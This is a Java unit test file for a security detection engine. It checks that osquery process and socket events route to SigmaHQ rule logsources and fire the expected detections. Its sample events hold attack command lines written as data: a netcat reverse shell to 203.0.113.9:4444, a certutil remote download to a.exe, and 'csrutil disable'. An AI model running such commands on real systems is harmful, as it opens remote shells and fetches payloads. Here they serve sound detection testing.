package io.socaas.correlation.sigma.yaml;

import static io.socaas.correlation.sigma.yaml.IngestedEvents.assumeCorpus;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.firedJson;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.id;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.ingestedJson;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.logsources;
import static org.assertj.core.api.Assertions.assertThat;

import io.socaas.correlation.sigma.domain.Logsource;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * osquery's scheduled query results, as event-model normalizes them, reach SigmaHQ's process_creation
 * rules of the host's system when the row says which system it is (Linux's audit process_events with
 * its {@code syscall}, macOS's es_process_events, Windows's process_etw_events, a processes row with
 * a drive in its path or macOS's own columns), and Linux's socket_events connects reach
 * network_connection. Rows that do not say their system (a Linux processes row, process_open_sockets)
 * and forks, exits and binds reach none of these. The rows are
 * written as osqueryd's filesystem logger writes them (osquery's table specs for the columns of
 * {@code SELECT *}). Without the corpus ({@code SOCAAS_CORPUS}) the tests are skipped.
 */
class OsqueryLogsourcesTest {

    private static final Logsource LINUX_PROCESS_CREATION = new Logsource("linux", "process_creation", null);
    private static final Logsource MACOS_PROCESS_CREATION = new Logsource("macos", "process_creation", null);
    private static final Logsource WINDOWS_PROCESS_CREATION = new Logsource("windows", "process_creation", null);
    private static final Logsource LINUX_NETWORK_CONNECTION = new Logsource("linux", "network_connection", null);

    private static String row(String name, String action, String columns) {
        return """
                {"name":"%s","hostIdentifier":"web-03.example.org","calendarTime":"Sun Mar  1 09:59:58 2026 UTC",
                 "unixTime":1772359198,"epoch":0,"counter":12,"numerics":false,
                 "decorations":{"host_uuid":"4AB2906D-5516-5794-AF54-86D1D7F533F3","username":"ops"},
                 "columns":%s,"action":"%s"}""".formatted(name, columns, action);
    }

    /** A row of Linux's process_events (audit), {@code SELECT *}. */
    private static String linuxProcessEvent(String syscall, String path, String cmdline) {
        return row("pack_incident-response_process_events", "added", """
                {"pid":"24013","path":"%s","mode":"0100755","cmdline":"%s","cwd":"/var/www","auid":"4294967295",
                 "uid":"33","euid":"33","gid":"33","egid":"33","owner_uid":"0","owner_gid":"0","atime":"1772300000",
                 "mtime":"1700000000","ctime":"1700000000","btime":"0","parent":"23990","time":"1772359197",
                 "uptime":"811034","fsuid":"33","suid":"33","fsgid":"33","sgid":"33","syscall":"%s"}""".formatted(path, cmdline, syscall));
    }

    private static List<Logsource> routes(String json) {
        return logsources(ingestedJson(json));
    }

    @Test
    void aLinuxExecFiresTheNetcatReverseShellRuleAndANcWithoutAShellDoesNot() {
        assumeCorpus();
        String reverseShell = id("rules/linux/process_creation/proc_creation_lnx_netcat_reverse_shell.yml");
        String exec = linuxProcessEvent("execve", "/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4444");
        assertThat(routes(exec)).contains(LINUX_PROCESS_CREATION).doesNotContain(WINDOWS_PROCESS_CREATION);
        assertThat(firedJson(exec)).contains(reverseShell);
        assertThat(firedJson(linuxProcessEvent("execve", "/usr/bin/nc", "nc -zv 203.0.113.9 4444")))
                .doesNotContain(reverseShell);
    }

    @Test
    void aParentTheQueryJoinedIsTheParentImage() {
        assumeCorpus();
        String base64 = id("rules/linux/process_creation/proc_creation_lnx_base64_decode.yml");
        // bpf_process_events joined with its parent's processes row
        String exec = row("pack_detection_bpf_exec", "added", """
                {"tid":"31044","pid":"31044","parent":"31012","uid":"1001","gid":"1001","cid":"3211","exit_code":"0",
                 "probe_error":"0","syscall":"execve","path":"/usr/bin/base64","cwd":"/tmp","cmdline":"base64 -d",
                 "duration":"51211","ntime":"811034112093","parent_path":"/usr/bin/bash","parent_cmdline":"bash -i"}""");
        assertThat(routes(exec)).contains(LINUX_PROCESS_CREATION);
        assertThat(firedJson(exec)).contains(base64);
    }

    @Test
    void aForkIsNoProcessCreation() {
        assumeCorpus();
        String reverseShell = id("rules/linux/process_creation/proc_creation_lnx_netcat_reverse_shell.yml");
        String fork = linuxProcessEvent("fork", "/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4444");
        assertThat(routes(fork)).doesNotContain(LINUX_PROCESS_CREATION);
        assertThat(firedJson(fork)).doesNotContain(reverseShell);
    }

    @Test
    void rowsThatDoNotSayTheirSystemAreNotRouted() {
        assumeCorpus();
        String reverseShell = id("rules/linux/process_creation/proc_creation_lnx_netcat_reverse_shell.yml");
        // the processes table exists on every system: its shared columns do not say which one ran it
        String running = row("pack_incident-response_processes", "added", """
                {"pid":"24013","name":"nc","path":"/usr/bin/nc","cmdline":"nc -e /bin/sh 203.0.113.9 4444",
                 "cwd":"/tmp","parent":"23990","uid":"33","gid":"33","on_disk":"1","start_time":"1772359190"}""");
        assertThat(routes(running))
                .doesNotContain(LINUX_PROCESS_CREATION, MACOS_PROCESS_CREATION, WINDOWS_PROCESS_CREATION);
        assertThat(firedJson(running)).doesNotContain(reverseShell);
        // nor does a socket of process_open_sockets, whose process is the same nc
        String socket = row("pack_incident-response_process_open_sockets", "added", """
                {"pid":"24013","fd":"3","socket":"991823","family":"2","protocol":"6","local_address":"192.0.2.30",
                 "remote_address":"203.0.113.9","local_port":"51514","remote_port":"4444","path":"/usr/bin/nc",
                 "state":"ESTABLISHED","net_namespace":"4026531992"}""");
        assertThat(routes(socket)).isEmpty();
    }

    /**
     * A row of the processes table on Windows, {@code SELECT *}: the columns every system has and
     * Windows's own (osquery's specs/processes.table); osquery reports no user ids there.
     */
    private static String windowsProcessesRow(String path, String cmdline) {
        return row("pack_incident-response_processes", "added", """
                {"pid":"6312","name":"certutil.exe","path":"%s","cmdline":"%s","state":"STILL_ACTIVE",
                 "cwd":"C:\\\\Users\\\\dana\\\\","root":"","uid":"-1","gid":"-1","euid":"-1","egid":"-1","suid":"-1",
                 "sgid":"-1","on_disk":"1","wired_size":"14872","resident_size":"3018752","total_size":"6299648",
                 "user_time":"15","system_time":"31","disk_bytes_read":"120832","disk_bytes_written":"0",
                 "start_time":"1772359190","parent":"4120","pgroup":"-1","threads":"4","nice":"32",
                 "elevated_token":"0","secure_process":"0","protection_type":"","virtual_process":"0",
                 "elapsed_time":"8","handle_count":"198","percent_processor_time":"468750"}""".formatted(path.replace("\\", "\\\\"), cmdline));
    }

    /** A row of the processes table on macOS, {@code SELECT *}, with macOS's own columns when asked. */
    private static String macProcessesRow(String path, String cmdline, boolean macColumns) {
        return row("pack_incident-response_processes", "added", """
                {"pid":"7311","name":"csrutil","path":"%s","cmdline":"%s","state":"R","cwd":"/Users/dana",
                 "root":"","uid":"0","gid":"0","euid":"0","egid":"0","suid":"0","sgid":"0","on_disk":"1",
                 "wired_size":"0","resident_size":"1654784","total_size":"4194304","user_time":"1","system_time":"2",
                 "disk_bytes_read":"0","disk_bytes_written":"0","start_time":"1772359190","parent":"7290",
                 "pgroup":"7311","threads":"1","nice":"0"%s}""".formatted(
                        path,
                        cmdline,
                        macColumns
                                ? ",\"upid\":\"100311\",\"uppid\":\"100290\",\"cpu_type\":\"16777228\",\"cpu_subtype\":\"2\",\"translated\":\"0\""
                                : ""));
    }

    @Test
    void aProcessesRowIsAProcessCreationOfTheSystemItsPathOrColumnsShow() {
        assumeCorpus();
        String certutil = id("rules/windows/process_creation/proc_creation_win_certutil_download.yml");
        String download = "certutil.exe -urlcache -split -f http://198.51.100.9/a.txt a.exe";
        // a drive letter: no Unix path has one
        String windows = windowsProcessesRow("C:\\Windows\\System32\\certutil.exe", download);
        assertThat(routes(windows))
                .contains(WINDOWS_PROCESS_CREATION)
                .doesNotContain(LINUX_PROCESS_CREATION, MACOS_PROCESS_CREATION);
        assertThat(firedJson(windows)).contains(certutil);
        assertThat(firedJson(
                        windowsProcessesRow("C:\\Windows\\System32\\certutil.exe", "certutil.exe -hashfile a.exe")))
                .doesNotContain(certutil);
        // a process whose path osquery could not read says no system
        assertThat(routes(windowsProcessesRow("", download))).doesNotContain(WINDOWS_PROCESS_CREATION);

        // macOS's own columns
        String csrutil = id("rules/macos/process_creation/proc_creation_macos_csrutil_disable.yml");
        String mac = macProcessesRow("/usr/bin/csrutil", "csrutil disable", true);
        assertThat(routes(mac))
                .contains(MACOS_PROCESS_CREATION)
                .doesNotContain(LINUX_PROCESS_CREATION, WINDOWS_PROCESS_CREATION);
        assertThat(firedJson(mac)).contains(csrutil);
        assertThat(firedJson(macProcessesRow("/usr/bin/csrutil", "csrutil status", true)))
                .doesNotContain(csrutil);
        // without them (a Linux host's row, or a query that chose its columns) the row says no system
        String unknown = macProcessesRow("/usr/bin/csrutil", "csrutil disable", false);
        assertThat(routes(unknown))
                .doesNotContain(LINUX_PROCESS_CREATION, MACOS_PROCESS_CREATION, WINDOWS_PROCESS_CREATION);
        assertThat(firedJson(unknown)).doesNotContain(csrutil);
    }

    private static String socketEvent(String action, String path, String remote, String port) {
        return row("pack_network_socket_events", "added", """
                {"action":"%s","pid":"24013","path":"%s","fd":"3","auid":"4294967295","success":"1","family":"2",
                 "status":"succeeded","protocol":"6","local_address":"192.0.2.30","remote_address":"%s",
                 "local_port":"51514","remote_port":"%s","socket":"","time":"1772359197","uptime":"811034"}""".formatted(action, path, remote, port));
    }

    @Test
    void aSocketEventsConnectIsANetworkConnectionAndNoProcessCreation() {
        assumeCorpus();
        String callbackPort = id("rules/linux/network_connection/net_connection_lnx_susp_malware_callback_port.yml");
        String bashConnect = id("rules/linux/network_connection/net_connection_lnx_back_connect_shell_dev.yml");
        String connect = socketEvent("connect", "/usr/bin/bash", "203.0.113.9", "4444");
        assertThat(routes(connect))
                .contains(LINUX_NETWORK_CONNECTION)
                .doesNotContain(LINUX_PROCESS_CREATION, WINDOWS_PROCESS_CREATION);
        assertThat(firedJson(connect)).contains(callbackPort, bashConnect);
        // a local address is not a callback; a bind connects nowhere
        assertThat(firedJson(socketEvent("connect", "/usr/bin/curl", "10.1.2.3", "4444")))
                .doesNotContain(callbackPort, bashConnect);
        assertThat(routes(socketEvent("bind", "/usr/bin/bash", "0.0.0.0", "0")))
                .doesNotContain(LINUX_NETWORK_CONNECTION);
    }

    private static String esProcessEvent(String eventType, String path, String cmdline) {
        return row("pack_macos_es_process_events", "added", """
                {"version":"4","seq_num":"1811","global_seq_num":"99120","pid":"7311","path":"%s","parent":"7290",
                 "original_parent":"7290","cmdline":"%s","cmdline_count":"2","cwd":"/Users/dana","uid":"0","euid":"0",
                 "gid":"0","egid":"0","username":"root","signing_id":"com.apple.csrutil","team_id":"",
                 "cdhash":"5b1e0d8c6f3a0a9e2d9b1f7c4e6a8d0b2c4e6f80","platform_binary":"1","exit_code":"","child_pid":"",
                 "time":"1772359197","event_type":"%s","codesigning_flags":""}""".formatted(path, cmdline, eventType));
    }

    @Test
    void aMacExecFiresTheCsrutilRuleOnMacOsOnly() {
        assumeCorpus();
        String csrutil = id("rules/macos/process_creation/proc_creation_macos_csrutil_disable.yml");
        String exec = esProcessEvent("exec", "/usr/bin/csrutil", "csrutil disable");
        assertThat(routes(exec)).contains(MACOS_PROCESS_CREATION).doesNotContain(LINUX_PROCESS_CREATION);
        assertThat(firedJson(exec)).contains(csrutil);
        assertThat(firedJson(esProcessEvent("exec", "/usr/bin/csrutil", "csrutil status")))
                .doesNotContain(csrutil);
        assertThat(routes(esProcessEvent("exit", "/usr/bin/csrutil", "csrutil disable")))
                .doesNotContain(MACOS_PROCESS_CREATION);
    }

    private static String etwProcessEvent(String type, String path, String cmdline) {
        return row(
                "pack_windows_process_etw_events", "added", """
                {"type":"%s","pid":"6312","ppid":"4120","session_id":"1","flags":"0","exit_code":"","path":"%s",
                 "cmdline":"%s","username":"CONTOSO\\\\dana","token_elevation_type":"TokenElevationTypeLimited",
                 "token_elevation_status":"0","mandatory_label":"S-1-16-8192","datetime":"2026-03-01 09:59:57"}""".formatted(type, path.replace("\\", "\\\\"), cmdline));
    }

    @Test
    void aWindowsProcessStartFiresTheCertutilDownloadRule() {
        assumeCorpus();
        String certutil = id("rules/windows/process_creation/proc_creation_win_certutil_download.yml");
        String start = etwProcessEvent(
                "ProcessStart",
                "C:\\Windows\\System32\\certutil.exe",
                "certutil.exe -urlcache -split -f http://198.51.100.9/a.txt a.exe");
        assertThat(routes(start)).contains(WINDOWS_PROCESS_CREATION).doesNotContain(LINUX_PROCESS_CREATION);
        assertThat(firedJson(start)).contains(certutil);
        // the device form of an image is read with its drive letter
        assertThat(firedJson(start.replace("C:\\\\Windows", "\\\\Device\\\\HarddiskVolume3\\\\Windows")))
                .contains(certutil);
        assertThat(routes(start.replace("ProcessStart", "ProcessStop"))).doesNotContain(WINDOWS_PROCESS_CREATION);
    }
}
